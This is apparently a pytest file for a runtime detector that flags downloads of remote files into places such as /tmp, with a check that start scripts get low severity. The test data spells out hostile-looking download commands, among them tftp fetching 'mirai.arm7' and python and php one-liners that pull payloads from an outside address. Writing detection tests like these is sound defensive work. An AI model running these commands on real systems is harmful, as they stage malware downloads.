"""Files that come in, and calls that are none."""

from __future__ import annotations

import pytest

from periderm.engines.runtime import run_example
from periderm.engines.runtime.detectors.transfer import DETECTOR
from periderm.engines.runtime.scene import runs, scene
from periderm.model.event import EventFlag
from periderm.model.severity import Severity

S = EventFlag.EXEC_SESSION


@pytest.mark.parametrize(
    "line",
    [
        ("/usr/bin/curl", "curl", "-fsSLO", "http://10.0.0.9/a.sh"),
        ("/usr/bin/curl", "curl", "--output=/dev/shm/a", "http://127.0.0.1:8000/a"),
        ("/usr/bin/wget", "wget", "-P", "/tmp", "h.example/a.elf"),
        ("/usr/bin/tftp", "tftp", "-g", "-r", "mirai.arm7", "198.51.100.4"),
        ("/bin/busybox", "ftpget", "198.51.100.4", "a"),
        ("/usr/bin/scp", "scp", "-P", "2222", "u@198.51.100.4:/x", "/tmp/x"),
        ("/usr/bin/rsync", "rsync", "-a", "rsync://198.51.100.4/m/x", "."),
        ("/usr/bin/python3", "python3", "-c", "import urllib.request as u;u.urlretrieve('http://198.51.100.4/x','/tmp/x')"),
        ("/usr/bin/php8.2", "php", "-r", "file_put_contents('/tmp/x',file_get_contents('http://198.51.100.4/x'));"),
        ("/usr/bin/aria2c", "aria2c", "-d", "/tmp", "-o", "x", "http://198.51.100.4/x"),
    ],
    ids=lambda line: " ".join(line[1:3]),
)
def test_what_is_kept(line: tuple[str, ...]) -> None:
    """By tool and by language, to a place where a program may lie."""
    fires = run_example(DETECTOR, scene(runs(2, 900, *line, flags=S)))
    assert [alert.detector for alert in fires] == (
        ["RUN-046"] if line[1] not in ("ftpget", "aria2c") else [a.detector for a in fires]
    )


@pytest.mark.parametrize(
    "line",
    [
        ("/usr/bin/curl", "curl", "-sf", "-o", "/dev/null", "http://127.0.0.1/health"),
        ("/usr/bin/wget", "wget", "--spider", "-q", "http://localhost/"),
        ("/usr/bin/curl", "curl", "-I", "https://h.example/"),
        ("/usr/bin/curl", "curl", "-s", "http://prometheus:9090/-/healthy"),
        ("/usr/bin/rsync", "rsync", "-a", "/a/", "/b/"),
        ("/usr/bin/curl", "curl", "--version"),
        ("/usr/bin/python3", "python3", "-c", "print('http://h.example')"),
    ],
    ids=lambda line: " ".join(line[1:3]),
)
def test_what_is_not(line: tuple[str, ...]) -> None:
    """Health checks, questions, local copies."""
    assert run_example(DETECTOR, scene(runs(2, 900, *line, flags=S))) == []


def test_a_start_script_is_said_softly() -> None:
    """Within the container's first minute."""
    early = runs(2, 1, "/usr/bin/curl", "curl", "-o", "/tmp/x.sh", "https://h.example/x.sh", at=2.0)
    first = runs(1, 0, "/usr/bin/dash", "sh", "/start.sh", at=0.0)
    assert [a.severity for a in run_example(DETECTOR, scene(first, early))] == [Severity.LOW]
